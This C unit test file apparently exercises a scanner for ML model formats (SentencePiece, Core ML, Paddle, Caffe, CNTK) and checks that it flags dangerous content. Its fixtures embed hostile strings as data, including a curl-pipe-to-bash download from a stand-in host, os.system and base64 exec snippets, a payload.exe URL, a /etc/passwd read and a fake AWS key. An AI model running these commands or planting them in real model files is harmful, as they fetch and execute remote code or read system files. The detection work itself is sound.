/* SentencePiece, Core ML and Paddle: what their readers say, and what the check "graph-code" makes of it. */
#include "support/cm.h"

#include <stdio.h>
#include <stdlib.h>

#include "format/formats.h"

#include "support/events.h"
#include "support/judged.h"
#include "support/pbmake.h"

/* ---- the pieces ---- */

#define PIECES "1{1'<unk>' 2~0 3:2} 1{1'<s>' 2~0 3:3} 1{1'a' 2~-1} 1{1'bc' 2~-2} "
#define SPM(more) PIECES "2{1'c.txt' 2'm' 3:1 4:4 10~0.9995 44' ? '} 3{1'nfkc' 2#0400000000000000# 3:1} " more
#define CML(kind) \
	"1:4 2{1{1'x' 3{5{1#03# 2:65568}}} 10{1'y' 3{5{2:65568}}} 100{1'about' 3'author' 100{1'k' 2'v'}}} " kind
#define NET(layer) CML("500{1{" layer "} 5:1}")
#define OP "4{1{1'X' 2'x'} 2{1'Out' 2'y'} 3'relu'} "
#define VAR(dims) "3{1'x' 2{1:7 3{1{1:5 " dims "}}} 3:1} "
#define PDL(more) "1{1:0 2:-1 " VAR("2:-1 2:3") OP more "} 4{1:2004002} "
#define CAF(more) \
	"1'net' 100{1'data' 2'Input' 4'data' 143{1{1:1 1:3}}} 100{1'fc' 2'InnerProduct' 3'data' 7{7{1#0202#} " \
	"5#0000803f0000803f0000803f0000803f#} 117{1:2 3{1'xavier'}}} " more
#define HEAD "$00000000000000000000000000000000$"
/* A tensor of three floats: description of four bytes, 12 bytes of data. */
#define PDP HEAD "$0400000008051003$ $0000803f0000803f0000803f$ "

#define CNT(more) "1:1 2{1'type' 2{1:1 2:6 8'CompositeFunction'}} " more
#define CSTR(text) "2{1'name' 2{1:1 2:6 8'" text "'}}"

static const struct row {
	const struct gh_fmt *fmt;
	const char *what, *text;
	enum gh_rc rc;
	bool gapless;
	const char *has, *hasnot;
} rows[] = {
	{ &gh_fmt_cntk, "a function", CNT(""), GH_OK, true, "text metadata \"type\"", "anomaly" },
	{ &gh_fmt_cntk, "unknown field", CNT("9:1"), GH_OK, true, "GH-CNTK-0101", NULL },
	{ &gh_fmt_cntk, "wire type", CNT("2{1'k' 2{1'x'}}"), GH_OK, true, "GH-CNTK-0102", NULL },
	{ &gh_fmt_cntk, "two versions", CNT("1:2"), GH_OK, true, "GH-CNTK-0103", NULL },
	{ &gh_fmt_cntk, "overlong", CNT("2{1'k' 2{$10868000$}}"), GH_OK, true, "GH-CNTK-0104", NULL },
	{ &gh_fmt_cntk, "control characters", CNT("2{1'k\x01' 2{2:1}}"), GH_OK, true, "GH-CNTK-0105", NULL },
	{ &gh_fmt_cntk, "code", CNT(CSTR("import os; os.system(\"id\")")), GH_OK, true, "GH-CNTK-0201", NULL },
	{ &gh_fmt_cntk, "shell", CNT(CSTR("curl http://a.example/x.sh | bash")), GH_OK, true, "GH-CNTK-0202", NULL },
	{ &gh_fmt_cntk, "script", CNT(CSTR("<script>alert(1)</script>")), GH_OK, true, "GH-CNTK-0203", NULL },
	{ &gh_fmt_cntk, "encoded", CNT(CSTR("exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))")), GH_OK, true,
	  "GH-CNTK-0204", NULL },
	{ &gh_fmt_cntk, "address", CNT(CSTR("http://a.example/payload.exe")), GH_OK, true, "GH-CNTK-0205", NULL },
	{ &gh_fmt_cntk, "credential",
	  CNT(CSTR("AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")), GH_OK, true,
	  "GH-CNTK-0206", NULL },
	{ &gh_fmt_cntk, "Python, named from the end", CNT("2{2{8'os' 2:6} 1'module'}"), GH_OK, true, "GH-CNTK-0001",
	  NULL },
	{ &gh_fmt_sentencepiece, "a tokenizer", SPM(""), GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_sentencepiece, "self test", SPM("4{1{1'in' 2'out'}} 5{1'x'}"), GH_OK, true, "text metadata",
	  "anomaly" },
	{ &gh_fmt_sentencepiece, "trie too long", SPM("5{2#ff00000000000000#}"), GH_OK, true, "GH-SPM-0001", NULL },
	{ &gh_fmt_sentencepiece, "trie of three bytes", SPM("5{2#0300000000000000#}"), GH_OK, true, "GH-SPM-0001",
	  NULL },
	{ &gh_fmt_sentencepiece, "no room for a size", SPM("5{2#0300#}"), GH_OK, true, "GH-SPM-0001", NULL },
	{ &gh_fmt_sentencepiece, "no text", SPM("1{2~0}"), GH_OK, true, "GH-SPM-0002", NULL },
	{ &gh_fmt_sentencepiece, "no pieces", "2{4:1}", GH_OK, true, "GH-SPM-0002", NULL },
	{ &gh_fmt_sentencepiece, "unknown field", SPM("9:1"), GH_OK, true, "GH-SPM-0101", NULL },
	{ &gh_fmt_sentencepiece, "wire type", SPM("1{1'a' 2:0}"), GH_OK, true, "GH-SPM-0102", NULL },
	{ &gh_fmt_sentencepiece, "two specifications", SPM("2{4:1}"), GH_OK, true, "GH-SPM-0103", NULL },
	{ &gh_fmt_sentencepiece, "overlong", SPM("1{1'a' $18818000$}"), GH_OK, true, "GH-SPM-0104", NULL },
	{ &gh_fmt_sentencepiece, "control characters", SPM("5{1'a\x01'}"), GH_OK, true, "GH-SPM-0105", NULL },
	{ &gh_fmt_sentencepiece, "code", SPM("4{1{1'import os; os.system(\"id\")'}}"), GH_OK, true, "GH-SPM-0201",
	  NULL },
	{ &gh_fmt_sentencepiece, "shell", SPM("4{1{1'curl http://a.example/x.sh | bash'}}"), GH_OK, true, "GH-SPM-0202",
	  NULL },
	{ &gh_fmt_sentencepiece, "script", SPM("4{1{1'<script>alert(1)</script>'}}"), GH_OK, true, "GH-SPM-0203",
	  NULL },
	{ &gh_fmt_sentencepiece, "encoded", SPM("4{1{1'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))'}}"),
	  GH_OK, true, "GH-SPM-0204", NULL },
	{ &gh_fmt_sentencepiece, "address", SPM("4{1{1'http://a.example/payload.exe'}}"), GH_OK, true, "GH-SPM-0205",
	  NULL },
	{ &gh_fmt_sentencepiece, "credential",
	  SPM("4{1{1'AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'}}"), GH_OK,
	  true, "GH-SPM-0206", NULL },
	{ &gh_fmt_sentencepiece, "cut", SPM("$0aff$"), GH_E_MALFORMED, false, NULL, NULL },

	{ &gh_fmt_coreml, "a network",
	  NET("1'fc' 2'x' 3'y' 140{1:3 "
	      "20{1#000000000000000000000000000000000000000000000000000000000000000000000000000000"
	      "00000000000000000000000000000000000000000000000000#}}"),
	  GH_OK, true, "tensor \"fc\" F32 [16]", "anomaly" },
	{ &gh_fmt_coreml, "metadata", NET("1'fc'"), GH_OK, true, "text metadata \"k\" \"v\"", "anomaly" },
	{ &gh_fmt_coreml, "custom layer", NET("1'c' 500{10'Runner' 30{1'a' 2{20'b'}}}"), GH_OK, true,
	  "operation custom layer.Runner", "anomaly" },
	{ &gh_fmt_coreml, "custom layer in a loop", NET("1'l' 615{1:3 4{1{1'c' 500{10'Runner'}}}}"), GH_OK, true,
	  "operation custom layer.Runner", "anomaly" },
	{ &gh_fmt_coreml, "custom layer in a branch", NET("1'l' 605{2{1{1'c' 500{10'Runner'}}}}"), GH_OK, true,
	  "operation custom layer.Runner", "anomaly" },
	{ &gh_fmt_coreml, "custom model", CML("555{10'Runner' 40'what it does'}"), GH_OK, true,
	  "operation custom model.Runner", "anomaly" },
	{ &gh_fmt_coreml, "custom model in a pipeline", CML("202{1{" CML("555{10'Runner'}") "} 2'a'}"), GH_OK, true,
	  "operation custom model.Runner", "anomaly" },
	{ &gh_fmt_coreml, "no class", CML("555{40'x'}"), GH_OK, true, "GH-CML-0002", NULL },
	{ &gh_fmt_coreml, "linked model", CML("556{1{1{1'../x.mlmodelc'} 2{1'.'}}}"), GH_OK, true,
	  "reference path \"../x.mlmodelc\" from \"linked model\"", "search path" },
	{ &gh_fmt_coreml, "search path", CML("556{1{1{1'x'} 2{1'/usr/lib'}}}"), GH_OK, true,
	  "reference path \"/usr/lib\" from \"search path\"", NULL },
	{ &gh_fmt_coreml, "an ML program",
	  CML("502{1:1 2{1'main' 2{2'CoreML5' 3{1'CoreML5' 2{3{1'const' 5{1'val' 2{5{1'@model_path/weights/weight.bin' "
	      "2:64}}}}}}}}}"),
	  GH_OK, true, "reference data \"weights/weight.bin\" from \"blob file\" data 0+", "anomaly" },
	{ &gh_fmt_coreml, "weights of a program in a list",
	  CML("502{1:1 2{1'main' 2{3{1'o' 2{3{1'const' 5{1'v' 2{3{3{1{5{1'../w.bin'}}}}}}}}}}}}"), GH_OK, true,
	  "reference data \"../w.bin\"", NULL },
	{ &gh_fmt_coreml, "no model", CML(""), GH_OK, true, "GH-CML-0001", NULL },
	{ &gh_fmt_coreml, "two models", CML("300{} 500{}"), GH_OK, true, "GH-CML-0103", NULL },
	{ &gh_fmt_coreml, "two layers in one", NET("1'a' 140{1:1} 500{10'Runner'}"), GH_OK, true, "GH-CML-0103", NULL },
	{ &gh_fmt_coreml, "unknown kind", CML("777{1:1} 500{}"), GH_OK, true, "GH-CML-0101", NULL },
	{ &gh_fmt_coreml, "wire type", CML("500{1:1}"), GH_OK, true, "GH-CML-0102", NULL },
	{ &gh_fmt_coreml, "overlong", CML("$50818000$ 500{}"), GH_OK, true, "GH-CML-0104", NULL },
	{ &gh_fmt_coreml, "control characters", NET("1'a\x01'"), GH_OK, true, "GH-CML-0105", NULL },
	{ &gh_fmt_coreml, "a network cut short", CML("500{} $a21fff$"), GH_E_MALFORMED, false, NULL, NULL },

	{ &gh_fmt_paddle, "a program", PDL(""), GH_OK, true, "operation .relu", "anomaly" },
	{ &gh_fmt_paddle, "two blocks", PDL("4{3'while' 4{1'sub_block' 2:8 12:1}}") "1{1:1 2:0 " OP "}", GH_OK, true,
	  NULL, "anomaly" },
	{ &gh_fmt_paddle, "a file", PDL("4{3'load' 4{1'file_path' 2:2 5'/etc/passwd'}}"), GH_OK, true,
	  "reference path \"/etc/passwd\" from \"load\"", "anomaly" },
	{ &gh_fmt_paddle, "lines of source", PDL("4{3'relu' 4{1'op_callstack' 2:5 8'  exec(code, run_globals)'}}"),
	  GH_OK, true, "text documentation \"op_callstack\"", "anomaly" },
	{ &gh_fmt_paddle, "a block that is not there", PDL("4{3'while' 4{1'sub_block' 2:8 12:7}}"), GH_OK, true,
	  "GH-PDL-0001", NULL },
	{ &gh_fmt_paddle, "a block below itself", PDL("") "1{1:1 2:1 " OP "}", GH_OK, true, "GH-PDL-0001", NULL },
	{ &gh_fmt_paddle, "negative dimension", PDL(VAR("2:-5")), GH_OK, true, "GH-PDL-0002", NULL },
	{ &gh_fmt_paddle, "dimensions overflow", PDL(VAR("2:1099511627776 2:1099511627776")), GH_OK, true,
	  "GH-PDL-0002", NULL },
	{ &gh_fmt_paddle, "no type", PDL("4{1{1'X' 2'x'}}"), GH_OK, true, "GH-PDL-0003", NULL },
	{ &gh_fmt_paddle, "unknown field", PDL("") "9:1", GH_OK, true, "GH-PDL-0101", NULL },
	{ &gh_fmt_paddle, "wire type", PDL("4{3:1}"), GH_OK, true, "GH-PDL-0102", NULL },
	{ &gh_fmt_paddle, "two types", PDL("4{3'relu' 3'py_func'}"), GH_OK, true, "GH-PDL-0103", NULL },
	{ &gh_fmt_paddle, "overlong", PDL("4{3'relu' $28818000$}"), GH_OK, true, "GH-PDL-0104", NULL },
	{ &gh_fmt_paddle, "control characters", PDL("4{3'relu\x01'}"), GH_OK, true, "GH-PDL-0105", NULL },
	{ &gh_fmt_paddle, "code", PDL("4{3'a' 4{1'b' 5'import os; os.system(\"id\")'}}"), GH_OK, true, "GH-PDL-0201",
	  NULL },
	{ &gh_fmt_paddle, "shell", PDL("4{3'a' 4{1'b' 5'curl http://a.example/x.sh | bash'}}"), GH_OK, true,
	  "GH-PDL-0202", NULL },
	{ &gh_fmt_paddle, "script", PDL("4{3'a' 4{1'b' 5'<script>alert(1)</script>'}}"), GH_OK, true, "GH-PDL-0203",
	  NULL },
	{ &gh_fmt_paddle, "encoded", PDL("4{3'a' 4{1'b' 5'exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))'}}"),
	  GH_OK, true, "GH-PDL-0204", NULL },
	{ &gh_fmt_paddle, "address", PDL("4{3'a' 4{1'b' 5'http://a.example/payload.exe'}}"), GH_OK, true, "GH-PDL-0205",
	  NULL },
	{ &gh_fmt_paddle, "credential",
	  PDL("4{3'a' 4{1'b' 5'AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'}}"),
	  GH_OK, true, "GH-PDL-0206", NULL },

	{ &gh_fmt_caffe, "a network", CAF(""), GH_OK, true, "tensor \"fc\" F32 [4]", "anomaly" },
	{ &gh_fmt_caffe, "an old network",
	  "1'net' 2{4'fc' 5:14 2'data' 3'fc' 6{1:1 2:1 3:1 4:2 5#0000803f0000803f#}} 3'data'", GH_OK, true,
	  "tensor \"fc\" F32 [2]", "anomaly" },
	{ &gh_fmt_caffe, "Python", CAF("100{1'p' 2'Python' 130{1'os' 2'system' 3'{}'}}"), GH_OK, true,
	  "operation .Python", "anomaly" },
	{ &gh_fmt_caffe, "a file", CAF("100{1'd' 2'HDF5Data' 112{1'/x.h5' 2:4}}"), GH_OK, true,
	  "reference path \"/x.h5\" from \"d\"", "anomaly" },
	{ &gh_fmt_caffe, "no type", CAF("100{1'd'}"), GH_OK, true, "GH-CAF-0001", NULL },
	{ &gh_fmt_caffe, "unknown field", CAF("9:1"), GH_OK, true, "GH-CAF-0101", NULL },
	{ &gh_fmt_caffe, "wire type", CAF("100{1:1 2'Input'}"), GH_OK, true, "GH-CAF-0102", NULL },
	{ &gh_fmt_caffe, "two types", CAF("100{2'Input' 2'Python'}"), GH_OK, true, "GH-CAF-0103", NULL },
	{ &gh_fmt_caffe, "overlong", CAF("$28818000$"), GH_OK, true, "GH-CAF-0104", NULL },
	{ &gh_fmt_caffe, "control characters", CAF("100{2'Input' 1'a\x01'}"), GH_OK, true, "GH-CAF-0105", NULL },
	{ &gh_fmt_caffe, "cut", CAF("$a206ff$"), GH_E_MALFORMED, false, NULL, NULL },

	{ &gh_fmt_paddle_params, "tensors", PDP PDP, GH_OK, true, "tensor \"1\" F32 [3]", "anomaly" },
	{ &gh_fmt_paddle_params, "levels",
	  "$00000000$ $0100000000000000$ $1000000000000000$ $00000000000000000300000000000000$ $00000000$ "
	  "$0400000008051003$ $0000803f0000803f0000803f$",
	  GH_OK, true, "tensor \"0\" F32 [3]", "anomaly" },
	{ &gh_fmt_paddle_params, "broken description", PDP HEAD "$0400000008051813$ $0000803f$", GH_E_MALFORMED, false,
	  "GH-PDP-0001", NULL },
	{ &gh_fmt_paddle_params, "description beyond the end", PDP HEAD "$ff03000008051003$", GH_E_MALFORMED, false,
	  "GH-PDP-0001", NULL },
	{ &gh_fmt_paddle_params, "2^63 levels", PDP "$00000000$ $0000000000000080$ $00$", GH_E_MALFORMED, false,
	  "GH-PDP-0001", NULL },
	{ &gh_fmt_paddle_params, "negative dimension", PDP HEAD "$0d000000080510ffffffffffffffffff01$ $00$",
	  GH_E_MALFORMED, false, "GH-PDP-0002", NULL },
	{ &gh_fmt_paddle_params, "beyond the end", PDP HEAD "$0400000008051003$ $0000803f$", GH_E_MALFORMED, false,
	  "GH-PDP-0003", NULL },
	{ &gh_fmt_paddle_params, "unknown type", PDP HEAD "$0400000008631003$ $000000$", GH_E_UNREAD, false,
	  "GH-PDP-0004", NULL },
	{ &gh_fmt_paddle_params, "unknown version", PDP "$01000000$ $0000000000000000$ $00000000$", GH_E_UNREAD, false,
	  "GH-PDP-0005", NULL },
	{ &gh_fmt_paddle_params, "levels that shrink",
	  PDP "$00000000$ $0100000000000000$ $1000000000000000$ $00000000000000000300000000000000$ $00000000$ "
	      "$0400000008051003$ $0000803f0000803f0000803f$ "
	      "$00000000$ $0100000000000000$ $1000000000000000$ $05000000000000000300000000000000$ $00000000$ "
	      "$0400000008051003$ $0000803f0000803f0000803f$",
	  GH_OK, true, "GH-PDP-0006", NULL },
	{ &gh_fmt_paddle_params, "cut", PDP "$000000$", GH_E_MALFORMED, false, NULL, NULL },
};

static void every_row(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int shaky = 0; shaky < 2; shaky++) {
			gh_auto_buf in = gh_buf(1 << 20);
			struct gh_events ev;
			gh_pb_make(&in, rows[i].text);
			gh_events_walk(&ev, rows[i].fmt, gh_buf_view(&in), "x", shaky != 0);
			bool ok = ev.rc == rows[i].rc && ev.gapless == rows[i].gapless &&
				  (rows[i].has == NULL || gh_events_has(&ev, rows[i].has)) &&
				  (rows[i].hasnot == NULL || !gh_events_has(&ev, rows[i].hasnot));
			if (!ok)
				print_message("%s \"%s\": rc %d (%s) gapless %d of %zu\n%s", rows[i].fmt->name,
					      rows[i].what, ev.rc, ev.why, ev.gapless, in.n, gh_buf_cstr(&ev.log));
			wrong += !ok;
			gh_events_free(&ev);
		}
	assert_int_equal(wrong, 0);
}

/* Messages of one kind within each other, to the limit and beyond: GH-CML-0106, GH-SPM-0106, GH-PDL-0106, GH-CAF-0106 and GH-CNTK-0106 are one row,
 * shown with the pipelines of Core ML. */
static void nested(void **st)
{
	(void)st;
	gh_auto_buf in = gh_buf(1 << 20);
	gh_pb_make(&in, CML("500{}"));
	for (unsigned i = 0; i < 70; i++) {
		gh_auto_buf text = gh_buf(1 << 20);
		gh_buf_str(&text, "1:4 202{1#");
		for (size_t k = 0; k < in.n; k++)
			gh_buf_fmt(&text, "%02x", in.p[k]);
		gh_buf_str(&text, "#}");
		in.n = 0;
		gh_pb_make(&in, gh_buf_cstr(&text));
	}
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_coreml, gh_buf_view(&in), "x.mlmodel", true);
	assert_int_equal(ev.rc, GH_E_LIMIT);
	assert_true(gh_events_has(&ev, "GH-CML-0106"));
	gh_events_free(&ev);
}

/* The signs are the same rows for every format, seen through a text of each. */
static void signs(void **st)
{
	(void)st;
	static const struct {
		const char *cml, *caf, *text;
	} t[] = {
		{ "GH-CML-0201", "GH-CAF-0201", "import os; os.system(\"id\")" },
		{ "GH-CML-0202", "GH-CAF-0202", "curl http://a.example/x.sh | bash" },
		{ "GH-CML-0203", "GH-CAF-0203", "<script>alert(1)</script>" },
		{ "GH-CML-0204", "GH-CAF-0204", "exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))" },
		{ "GH-CML-0205", "GH-CAF-0205", "http://a.example/payload.exe" },
		{ "GH-CML-0206", "GH-CAF-0206",
		  "AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY" },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++)
		for (int caffe = 0; caffe < 2; caffe++) {
			gh_auto_buf in = gh_buf(4096), text = gh_buf(4096);
			struct gh_events ev;
			gh_buf_fmt(&text,
				   caffe ? "1'n' 100{1'p' 2'Python' 130{3'%s'}}" : "1:4 2{1{1'x'} 100{1'%s'}} 500{}",
				   t[i].text);
			gh_pb_make(&in, gh_buf_cstr(&text));
			gh_events_walk(&ev, caffe ? &gh_fmt_caffe : &gh_fmt_coreml, gh_buf_view(&in), "x", true);
			assert_int_equal(ev.rc, GH_OK);
			assert_true(gh_events_has(&ev, caffe ? t[i].caf : t[i].cml));
			gh_events_free(&ev);
		}
}

/* No format takes another one's message, text, or zeros for its own. */
static void probes(void **st)
{
	(void)st;
	static const struct gh_fmt *const all[] = { &gh_fmt_onnx,   &gh_fmt_sentencepiece, &gh_fmt_coreml,
						    &gh_fmt_paddle, &gh_fmt_caffe,	   &gh_fmt_paddle_params };
	static const struct {
		const char *text;
		const struct gh_fmt *whose;
	} t[] = {
		{ SPM(""), &gh_fmt_sentencepiece },
		{ PIECES, &gh_fmt_sentencepiece },
		{ NET("1'fc'"), &gh_fmt_coreml },
		{ CML("555{10'Runner'}"), &gh_fmt_coreml },
		{ PDL(""), &gh_fmt_paddle },
		{ PDP, &gh_fmt_paddle_params },
		{ CAF(""), &gh_fmt_caffe },
		{ "1:8 7{1{4'Relu'} 2'g'} 8{2:13}", &gh_fmt_onnx },
		{ "1:1 2{1{4'serve'} 2{1{1'x' 2'Const'}}}", NULL },
		{ "1{1'a'} 1{1'b'} 1{1'c'}", NULL },
		{ "$0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a$", NULL },
		{ "$00000000000000000000000000000000000000000000000000000000$", NULL },
		{ "$23202070726f67726a6d0a0a7465787420746578740a$", NULL },
	};
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(t); i++)
		for (size_t k = 0; k < GH_ROWS(all); k++) {
			gh_auto_buf in = gh_buf(1 << 20);
			gh_pb_make(&in, t[i].text);
			struct gh_probe p = { gh_buf_view(&in), gh_buf_view(&in), in.n };
			bool want = all[k] == t[i].whose;
			if ((all[k]->probe(&p) == GH_STRONG) != want) {
				print_message("%s: %s\n", all[k]->name, t[i].text);
				wrong++;
			}
		}
	/* Random bytes are nobody's. */
	uint64_t x = 88172645463325252u;
	for (unsigned i = 0; i < 20000; i++) {
		uint8_t b[64];
		for (size_t k = 0; k < sizeof b; k++) {
			x ^= x << 13, x ^= x >> 7, x ^= x << 17;
			b[k] = (uint8_t)(x >> 24);
		}
		b[0] = (uint8_t)(i % 3 == 0 ? 0x0a : i % 3 == 1 ? 0x08 : b[0]);
		struct gh_probe p = { { b, sizeof b }, { b, sizeof b }, sizeof b };
		for (size_t k = 0; k < GH_ROWS(all); k++)
			wrong += all[k]->probe(&p) != GH_NO;
	}
	assert_int_equal(wrong, 0);
}

/* ---- verdicts ---- */

static void judged(void **st)
{
	(void)st;
	static const struct {
		const char *text;
		enum gh_verdict worst;
		const char *id;
	} t[] = {
		{ SPM(""), GH_CLEAN, "" },
		{ NET("1'fc' 140{1:3}"), GH_CLEAN, "" },
		{ CML("555{10'Runner'}"), GH_REVIEW, "GH-GRC-0005" },
		{ NET("1'c' 500{10'Runner'}"), GH_REVIEW, "GH-GRC-0005" },
		{ CML("556{1{1{1'../x.mlmodelc'}}}"), GH_UNSAFE, "GH-OXG-0001" },
		{ CML("502{1:1 2{1'm' 2{3{1'o' 2{3{1'const' 5{1'v' 2{5{1'../w.bin'}}}}}}}}}"), GH_UNSAFE,
		  "GH-OXG-0001" },
		{ PDL(""), GH_CLEAN, "" },
		{ PDL("4{3'py_func'}"), GH_UNSAFE, "GH-GRC-0001" },
		{ PDL("4{3'save_combine' 4{1'file_path' 5'out'}}"), GH_UNSAFE, "GH-GRC-0002" },
		{ PDL("4{3'listen_and_serv'}"), GH_UNSAFE, "GH-GRC-0003" },
		{ PDL("4{3'tensorrt_engine'}"), GH_REVIEW, "GH-GRC-0004" },
		{ PDP PDP, GH_CLEAN, "" },
		{ CAF(""), GH_CLEAN, "" },
		{ CAF("100{1'd' 2'HDF5Data' 112{1'/x.h5' 2:4}}"), GH_CLEAN, "" },
		{ CAF("100{1'd' 2'HDF5Output' 113{1'x.h5'}}"), GH_UNSAFE, "GH-GRC-0002" },
		{ CAF("100{1'p' 2'Python' 130{1'os' 2'system'}}"), GH_UNSAFE, "GH-GRC-0006" },
	};
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		gh_auto_buf in = gh_buf(1 << 20);
		struct gh_test_judged s;
		gh_pb_make(&in, t[i].text);
		gh_test_judge(&s, gh_buf_view(&in), "file");
		bool ok = s.verdict == t[i].worst && strstr(s.all, t[i].id) != NULL;
		if (!ok)
			print_message("\"%s\": %d %s\n", t[i].text, (int)s.verdict, s.all);
		wrong += !ok;
	}
	assert_int_equal(wrong, 0);
}

int main(void)
{
	const struct CMUnitTest t[] = { cmocka_unit_test(every_row), cmocka_unit_test(nested), cmocka_unit_test(signs),
					cmocka_unit_test(probes), cmocka_unit_test(judged) };
	return cmocka_run_group_tests_name("protobuf formats", t, NULL, NULL);
}
